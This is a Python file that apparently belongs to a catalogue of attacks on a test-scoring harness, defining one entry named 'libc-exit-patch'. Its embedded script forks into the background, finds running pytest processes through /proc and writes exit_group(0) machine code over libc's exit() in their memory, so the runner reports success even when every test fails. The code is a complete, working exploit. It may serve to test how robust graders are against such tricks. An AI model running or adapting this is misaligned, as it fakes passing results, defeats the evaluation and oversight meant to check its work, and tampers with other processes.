"""A process that survives the deadline and rewrites exit() in the memory of the test runner."""

from scoring.attacks.exploit import Exploit

SCRIPT = """\
import ctypes
import os
import pathlib
import platform
import sys
import time

# exit_group(0)
CODE = {"x86_64": "31ffb8e70000000f05", "aarch64": "000080d2c80b80d2010000d4"}


def libc(pid):
    for line in pathlib.Path("/proc", pid, "maps").read_text().splitlines():
        if "libc.so" in line or "libc-" in line:
            return int(line.split("-")[0], 16)
    raise OSError


def patch(pid):
    address = libc(pid) + ctypes.cast(ctypes.CDLL(None).exit, ctypes.c_void_p).value - libc("self")
    with open("/proc/" + pid + "/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        memory.write(bytes.fromhex(CODE[platform.machine()]))


if os.fork():
    os._exit(0)
os.setsid()
null = os.open(os.devnull, os.O_RDWR)
for number in range(3):
    os.dup2(null, number)
done = set()
while True:
    for pid in set(filter(str.isdigit, os.listdir("/proc"))) - done:
        try:
            if b"pytest" in pathlib.Path("/proc", pid, "cmdline").read_bytes() and pid != str(os.getpid()):
                patch(pid)
                done.add(pid)
        except OSError:
            continue
    time.sleep(0.005)
"""

EXPLOIT = Exploit(
    name="libc-exit-patch",
    flaw="outlives the deadline",
    source="proc(5): /proc/PID/mem of a process of the same user can be written, code included",
    idea="no file and no option is touched: the runner fails every test and its exit code is 0 all the same",
    start="sloppy",
    files={"tmp/rewrite.py": SCRIPT},
    command="python3 /tmp/rewrite.py",
)
